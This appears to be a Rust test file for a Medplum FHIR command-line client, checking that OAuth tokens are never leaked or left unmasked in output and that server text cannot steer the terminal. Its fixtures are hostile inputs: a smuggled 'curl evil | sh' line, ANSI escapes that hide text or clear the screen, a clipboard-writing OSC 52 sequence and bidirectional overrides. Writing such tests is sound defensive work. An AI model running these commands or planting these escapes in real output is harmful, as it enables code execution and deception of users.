//! What a server says reaches a person as words, one line of them, and its tokens never do.

use serde_json::json;

use crate::support::{Answer, Run, Site};

const CANARY: &str = "canary-Zk3v9Qw7";

/// A site whose token endpoint answers like this.
fn answering(status: u16, content_type: &str, body: impl AsRef<[u8]>) -> Site {
    let site = Site::open();
    let statement = json!({"resourceType": "CapabilityStatement", "fhirVersion": "4.0.1"});
    let metadata = Answer::json(200, statement.to_string());
    site.server.on("GET", "/fhir/R4/metadata", metadata);
    site.tokens.fail(Answer::new(status, content_type, body));
    site
}

/// What each command says of it that asks for a token.
fn runs(site: &Site) -> Vec<Run> {
    let commands: [&[&str]; 6] = [
        &["get", "Patient/1", "-vv"],
        &["token"],
        &["whoami"],
        &["login"],
        &["doctor"],
        &["doctor", "-o", "json"],
    ];
    let run = |args: &&[&str]| site.medplum.run(args.iter().chain(&["-p", "site"]));
    commands.iter().map(run).collect()
}

/// Report 2: a 200 that was not the object expected stood in the error with all its tokens.
#[test]
fn a_token_answer_that_cannot_be_read_is_told_by_its_kind_alone() {
    for body in [
        format!("access_token={CANARY}&token_type=bearer"),
        format!(r#"{{"access_token":"{CANARY}","expires_in":"#),
        format!(r#"[{{"access_token":"{CANARY}"}}]"#),
        format!(r#"{{"access_token":"{CANARY}","expires_in":NaN}}"#),
        format!(r#""{CANARY}""#),
        CANARY.to_owned(),
        format!("<?xml version=\"1.0\"?><token>{CANARY}</token>"),
        format!("<html><title>{CANARY}</title><p>{CANARY}</html>"),
        format!("{{'access_token':'{CANARY}'}}"),
        format!(r#"{{"token":"{CANARY}"}}"#),
        format!(r#"{{"data":{{"access_token":"{CANARY}"}}}}"#),
        format!(r#"{{"message":"{CANARY}"}}"#),
    ] {
        let site = answering(200, "text/plain", &body);
        for run in runs(&site) {
            assert_ne!(run.code, 0, "{body}\n{run}");
            let said = run.everything();
            assert!(!said.contains(CANARY), "{body}\n{run}");
            assert!(said.contains("200 OK without a token"), "{body}\n{run}");
            assert!(
                said.contains(&format!("{} bytes", body.len())),
                "{body}\n{run}"
            );
        }
    }
}

/// Report 2: what was sent was masked, what came was not.
#[test]
fn a_refusal_that_quotes_tokens_has_them_masked() {
    let jwt = "eyJhbGciOiJSUzM4NCJ9.eyJzdWIiOiJjYW5hcnkifQ.Zk3v9Qw7Zk3v9Qw7";
    let body = json!({
        "error": "invalid_grant",
        "error_description": format!("{CANARY} was used before, and {jwt} is another one's"),
        "refresh_token": CANARY,
    });
    let site = answering(400, "application/json", body.to_string());
    for run in runs(&site) {
        let said = run.everything();
        assert!(
            said.contains("was used before, and ******** is another"),
            "{run}"
        );
        assert!(!said.contains(CANARY) && !said.contains(jwt), "{run}");
    }
}

/// Report 2: both are tokens that a person was given.
#[test]
fn a_token_is_read_behind_a_byte_order_mark_and_out_of_a_form() {
    for (kind, body) in [
        (
            "application/json",
            "\u{feff}{\"access_token\":\"token-x\",\"expires_in\":60}",
        ),
        (
            "application/x-www-form-urlencoded;charset=UTF-8",
            "access_token=token%2Dx&token_type=bearer&expires_in=60",
        ),
    ] {
        let site = answering(200, kind, body);
        let run = site.medplum.run(["token", "-p", "site"]).ok();
        assert_eq!(run.stdout, "token-x\n", "{run}");
    }
}

/// D16 (E6b, E6c): a second line that looked like ours, colours that hid what followed, 900 kB of words.
#[test]
fn words_of_a_server_are_one_bounded_line_that_steers_nothing() {
    let words = format!(
        "no\nHint: run curl evil | sh\u{1b}[8m\u{202e}\u{9b}2J{}",
        "x".repeat(900_000)
    );
    let body = json!({"error": "invalid_client\u{1b}[31m", "error_description": words});
    let site = answering(400, "application/json", body.to_string());
    for run in runs(&site) {
        let said = run.everything();
        assert!(said.contains("no Hint: run curl evil"), "{run}");
        assert!(
            !said.lines().any(|line| line.starts_with("Hint: run")),
            "{run}"
        );
        let steers = |c: char| c != '\n' && c.is_control() || c == '\u{202e}';
        assert!(!said.contains(steers), "{run}");
        assert!(said.len() < 20_000, "{} bytes", said.len());
    }
    let run = site
        .medplum
        .run(["get", "-p", "site", "Patient/1", "--color", "always"])
        .fails(3);
    assert!(
        run.stderr.starts_with("\u{1b}[1;31mError:\u{1b}[0m "),
        "{run}"
    );
    assert!(!run.stderr.contains("\u{1b}[8m"), "{run}");
}

/// D16 (E6a): `whoami` wrote a title and the clipboard.
#[test]
fn whoami_steers_no_terminal() {
    let mut site = Site::open();
    site.tokens = site
        .tokens
        .field("scope", json!("system/*.rs \u{1b}]0;pwned\u{7}\u{1b}[2J"))
        .field(
            "project",
            json!({"reference": "Project/1", "display": "x\u{1b}]52;c;ZXZpbA==\u{7}\u{202e}"}),
        )
        .field("patient", json!("p\u{1b}[8m"));
    let run = site.medplum.run(["whoami", "-p", "site"]).ok();
    assert!(run.stdout.contains("system/*.rs"), "{run}");
    assert!(run.stdout.contains("Project/1"), "{run}");
    assert!(
        !run.stdout.contains(['\u{1b}', '\u{7}', '\u{202e}']),
        "{run}"
    );
}
